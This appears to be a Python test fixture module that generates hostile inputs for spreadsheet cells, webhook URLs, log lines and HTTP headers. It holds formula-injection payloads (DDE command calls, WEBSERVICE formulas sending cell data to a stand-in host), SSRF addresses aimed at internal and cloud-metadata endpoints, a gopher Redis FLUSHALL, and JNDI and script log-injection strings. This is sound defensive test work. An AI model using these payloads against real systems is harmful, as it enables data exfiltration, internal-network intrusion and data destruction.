"""Hostile inputs for one kind of place each: cells, addresses of webhooks, logs, headers."""

from ipaddress import IPv4Address

BEGINNT_MIT = {
    "gleich": "=", "plus": "+", "minus": "-", "at": "@", "tabulator": "\t=", "cr": "\r=",
    "lf": "\n=", "nul": "\0=", "leer": " =", "geschuetzt": "\u00a0=", "vollbreit_gleich": "\uff1d",
    "vollbreit_plus": "\uff0b", "vollbreit_minus": "\uff0d", "vollbreit_at": "\uff20",
    "klein_plus": "\ufe62", "klein_minus": "\ufe63", "klein_gleich": "\ufe66", "klein_at": "\ufe6b",
    "hochgestellt_plus": "\u207a", "hochgestellt_gleich": "\u207c",
}  # fmt: skip
RECHNET = {
    "summe": "1+1",
    "befehl": "cmd|' /C calc'!A0",
    "dde": "DDE(\"cmd\";\"/C calc\";\"x\")",
    "verweis": 'HYPERLINK("https://fremd.example/?"&A1;"hier")',
    "abruf": 'WEBSERVICE("https://fremd.example/"&A1)',
    "bild": 'IMAGE("https://fremd.example/a.png")',
    "einlesen": 'IMPORTXML("https://fremd.example/";"//a")',
    "datei": "'file:///etc/passwd'#$passwd.A1",
    "zeilen": '1\n=2\r\n"=3',
    "trenner": '1;=2;"=3";\'=4',
}  # fmt: skip
FORMELN = {
    f"{anfang}_{was}": vorn + rest
    for anfang, vorn in BEGINNT_MIT.items()
    for was, rest in RECHNET.items()
}

INNEN = (
    "127.0.0.1", "127.1.2.3", "0.0.0.0", "10.0.0.1", "10.255.255.255", "172.16.0.1",
    "172.31.255.254", "192.168.0.1", "192.168.178.1", "169.254.169.254", "169.254.170.2",
    "100.64.0.1", "100.100.100.200", "192.0.0.192", "198.18.0.1", "224.0.0.1", "255.255.255.255",
)  # fmt: skip


def _schreibweisen(ip: str) -> dict[str, str]:
    eins, zwei, drei, vier = ip.split(".")
    zahl = int(IPv4Address(ip))
    return {
        "punkte": ip,
        "dezimal": str(zahl),
        "hex": hex(zahl),
        "oktal": f"0{zahl:o}",
        "hex_teile": ".".join(hex(int(teil)) for teil in (eins, zwei, drei, vier)),
        "kurz": f"{eins}.{int(zwei) * 65536 + int(drei) * 256 + int(vier)}",
        "abgebildet": f"[::ffff:{ip}]",
        "vertraeglich": f"[::{ip}]",
        "nat64": f"[64:ff9b::{ip}]",
        "sechs_zu_vier": f"[2002:{zahl >> 16:x}:{zahl & 65535:x}::1]",
    }


ADRESSEN = {
    f"{art}_{ip}": f"https://{rechner}/"
    for ip in INNEN
    for art, rechner in _schreibweisen(ip).items()
} | {
    "ipv6_selbst": "https://[::1]/",
    "ipv6_leer": "https://[::]/",
    "ipv6_zone": "https://[fe80::1%25eth0]/",
    "ipv6_eigen": "https://[fc00::1]/",
    "localhost": "https://localhost/",
    "localhost_gross": "https://LOCALHOST/",
    "unter_localhost": "https://a.localhost/",
    "mdns": "https://drucker.local/",
    "cluster": "https://kubernetes.default.svc.cluster.local/",
    "metadaten": "https://metadata.google.internal/",
    "nur_ein_name": "https://postgres/",
    "vollbreit": "https://\uff11\uff12\uff17.0.0.1/",
    "eingekreist": "https://\u2460\u2461\u2466.0.0.1/",
    "punkt_anders": "https://127\u30020\u30020\u30021/",
    "zugangsdaten": "https://plattform.example@127.0.0.1/",
    "zugangsdaten_rueckstrich": "https://127.0.0.1\\@plattform.example/",
    "anker": "https://127.0.0.1#@plattform.example/",
    "prozent": "https://%31%32%37.0.0.1/",
    "zeilenende": "https://plattform.example\r\nHost: 127.0.0.1/",
    "port": "https://plattform.example:5432/",
    "schema_http": "http://plattform.example/",
    "schema_file": "file:///etc/passwd",
    "schema_gopher": "gopher://127.0.0.1:6379/_FLUSHALL",
    "schema_fehlt": "//127.0.0.1/",
}  # fmt: skip

KANARIE = "kanarienvogel"
LOGZEILEN = {
    f"{wie}_{nr}": text.format(KANARIE)
    for wie, texte in {
        "zeile": ("\n{}", "\r\n{}", "\r{}", "\x0b{}", "\x0c{}", "\x85{}", "\u2028{}", "\u2029{}",
                  "\x1c{}", "\x00{}"),
        "json": ('","level":"error","x":"{}', '"}}\n{{"level":"error","x":"{}"}}', "\\{}", '\\"{}'),
        "ansi": ("\x1b[2J{}", "\x1b]0;{}\x07", "\x9b31m{}", "\x1b]8;;https://a.example\x1b\\{}",
                 "\x1bP{}\x1b\\", "\x08\x08{}", "\x7f{}"),
        "format": ("%s%s%n{}", "%(message)s{}", "{{0.__class__}}{}", "${{jndi:ldap://a/{}}}",
                   "$({})"),
        "bidi": ("\u202e{}", "\u2066{}", "\u200f{}", "\ufeff{}", "\u200b{}"),
        "html": ("<script>{}</script>", "<img src=x onerror={}>", "&lt;{}", "]]>{}"),
        "geheim": ("Bearer eyJ{}", "password={}", "DE89 3704 0044 0532 0130 00 {}", "Cookie: a={}"),
        "lang": ("a" * 1_000_000 + "{}", "\n" * 10_000 + "{}", "\u0300" * 100_000 + "{}"),
    }.items()
    for nr, text in enumerate(texte)
}  # fmt: skip

KOEPFE = (
    "Accept", "Accept-Encoding", "Accept-Language", "Connection", "Content-Encoding",
    "Content-Length", "Content-Type", "Cookie", "Expect", "Forwarded", "Host", "If-Match",
    "If-Modified-Since", "If-None-Match", "Last-Event-ID", "Origin", "Range", "Referer",
    "Transfer-Encoding", "Upgrade", "User-Agent", "Via", "X-Forwarded-For", "X-Forwarded-Host",
    "X-HTTP-Method-Override", "X-Original-URL", "X-Request-ID", "X-User-Id", "traceparent",
    "tracestate",
)  # fmt: skip
